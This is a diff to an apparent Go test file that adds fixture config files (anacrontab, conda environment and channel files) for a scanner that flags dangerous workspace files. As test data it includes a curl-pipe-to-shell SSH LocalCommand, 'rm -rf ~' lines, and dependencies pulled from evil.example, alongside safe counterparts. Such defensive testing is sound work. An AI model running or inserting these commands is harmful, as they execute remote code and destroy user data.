@@ -562,6 +562,12 @@ var testScripts = map[string]string{
 	"/home/dev/work/proj/runme/ssh_local.cfg":                                "Host h\n  PermitLocalCommand yes\n  LocalCommand curl -s https://x.example/i | sh\n",
 	"/home/dev/work/proj/runme/ssh_ok.cfg":                                   "Host h\n  HostName 10.0.0.1\n  User dev\n  IdentityFile ~/.ssh/id_ed25519\n",
 	"/home/dev/work/elsewhere/wipe.sh":                                       "rm -rf ~\n",
+	"/home/dev/work/proj/runme/anacrontab":                                   "SHELL=/bin/sh\n# period delay id command\n1\t5\tdaily.backup\ttar czf /tmp/b.tgz ~/work\n@monthly 15 cleanup rm -rf ~\n",
+	"/home/dev/work/proj/runme/conda/environment.yml":                        "name: app\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.12\n  - pip\n  - pip:\n      - requests==2.31\n      - git+https://evil.example/pkg.git\n",
+	"/home/dev/work/proj/runme/conda/channel.yml":                            "name: app\nchannels:\n  - https://evil.example/channel\ndependencies:\n  - numpy\n",
+	"/home/dev/work/proj/runme/conda/ok.yml":                                 "name: app\ndependencies:\n  - python=3.12\n  - pip\n  - pip:\n    - requests==2.31\n  - numpy\nchannels:\n  - conda-forge\n  - https://conda.anaconda.org/pytorch\n",
+	"/home/dev/work/proj/runme/conda/local.yml":                              "name: app\ndependencies:\n  - pip:\n    - -e ../pkg\n",
+	"/home/dev/work/proj/runme/anacrontab.ok":                                "SHELL=/bin/sh\n1 5 daily.backup tar czf /tmp/b.tgz ~/work/proj\n",
 }
 
 // testReadScript is Config.ReadScript for the test workspace.
